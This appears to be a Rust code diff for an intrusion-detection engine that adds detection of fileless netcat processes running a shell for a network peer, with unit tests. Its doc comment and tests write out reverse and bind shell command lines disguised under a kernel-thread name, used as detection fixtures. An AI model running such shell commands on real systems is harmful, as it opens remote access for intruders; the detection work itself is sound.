@@ -296,8 +296,12 @@ impl ToolCommand {
     pub fn relay(&self) -> Option<RelayKind> {
         match self {
             ToolCommand::Socat(c) => socat::reverse_shell(c).map(|_| RelayKind::Exec),
-            ToolCommand::Netcat(_, c) if c.exec.is_some() => Some(RelayKind::Exec),
-            ToolCommand::Netcat(_, c) => (!c.scan_only).then_some(RelayKind::Netcat),
+            ToolCommand::Netcat(_, c) => match &c.exec {
+                // An echo or time service relays nothing to run.
+                Some(x) if tools::command_moves_data_only(&x.program) => None,
+                Some(_) => Some(RelayKind::Exec),
+                None => (!c.scan_only).then_some(RelayKind::Netcat),
+            },
         }
     }
 }
@@ -448,20 +452,37 @@ impl Engine {
                 ToolKind::CommonCommand | ToolKind::Compiler => stdio_on_network(p),
                 _ => false,
             };
-        if !worth_reading {
-            return (id.kind, id.args_from, None);
-        }
-        let roots = root_pids(table, p);
-        let known = self.binaries.fingerprint(p.cgroup_id, &roots, program_file(p));
-        tracing::debug!(pid = p.key.pid, exe = %p.exe, ?roots, ?known, "fingerprinted an executable");
+        let known = if worth_reading {
+            let roots = root_pids(table, p);
+            let known = self.binaries.fingerprint(p.cgroup_id, &roots, program_file(p));
+            tracing::debug!(pid = p.key.pid, exe = %p.exe, ?roots, ?known, "fingerprinted an executable");
+            known
+        } else {
+            None
+        };
         match known {
             Some(known) => {
                 let by_name = id.kind;
                 let id = identify_fingerprinted(known, &p.exe, &p.argv, &self.rules.lists);
                 (id.kind, id.args_from, (id.kind != by_name).then_some(known))
             }
+            None if id.kind == ToolKind::Other && self.fileless_netcat(p) => (ToolKind::Netcat(tools::NetcatFlavor::Unknown), 1, None),
             None => (id.kind, id.args_from, None),
         }
+    }
+
+    /// A program with nothing on disk (a memfd, a deleted file) whose command line is a
+    /// netcat's running a shell or interpreter for a peer (`kworker -e /bin/sh 10.0.0.1 4444`).
+    /// Taken as netcat when its contents could not be read: netcat `-e` becomes the shell within
+    /// milliseconds, and a memfd is gone with it, so reading it races; the command line does not.
+    fn fileless_netcat(&self, p: &Process) -> bool {
+        if !p.exe_storage.fileless() {
+            return false;
+        }
+        let cmd = netcat::parse(tools::NetcatFlavor::Unknown, p.argv.get(1..).unwrap_or_default());
+        let runs_shell =
+            cmd.exec.as_ref().is_some_and(|x| matches!(tools::command_kind(&x.program, &self.rules.lists), ToolKind::Shell | ToolKind::Interpreter));
+        runs_shell && cmd.peer().is_some()
     }
 
     /// Run the detectors on one event (already applied to `table`). `live` allows reading the
@@ -622,6 +643,26 @@ mod tests {
         // Every detector runs once (siblings share one).
         let engine = Engine::new(Arc::new(rules), None);
         assert_eq!(engine.detectors.len(), DetectionId::ALL.iter().filter(|id| id.spec().detector.is_some()).count());
+    }
+
+    #[test]
+    fn a_fileless_program_with_a_netcat_exec_command_line_is_netcat() {
+        use crate::event::{ExeStorage, RawStr};
+        let engine = Engine::new(Arc::new(Rules::defaults()), None);
+        let memfd = ExeStorage { in_memory_fs: true, unlinked: true };
+        let process = |argv: &[&str], exe_storage| Process {
+            argv: argv.iter().map(|a| RawStr::from(*a)).collect(),
+            exe: RawStr::from("/memfd:kworker"),
+            exe_storage,
+            ..Process::new(ProcessKey { pid: 5, start: 1 })
+        };
+        assert!(engine.fileless_netcat(&process(&["kworker", "-e", "/bin/sh", "127.0.0.1", "4444"], memfd)));
+        assert!(engine.fileless_netcat(&process(&["kworker", "-lp4444", "-e", "python3"], memfd)));
+        // The same command line from a program on disk is judged by its name and contents.
+        assert!(!engine.fileless_netcat(&process(&["kworker", "-e", "/bin/sh", "127.0.0.1", "4444"], ExeStorage::default())));
+        // Serving a program that is not a shell (an echo service), or naming no peer: no.
+        assert!(!engine.fileless_netcat(&process(&["kworker", "-e", "/bin/cat", "127.0.0.1", "4444"], memfd)));
+        assert!(!engine.fileless_netcat(&process(&["kworker", "-e", "/bin/sh"], memfd)));
     }
 
     #[test]
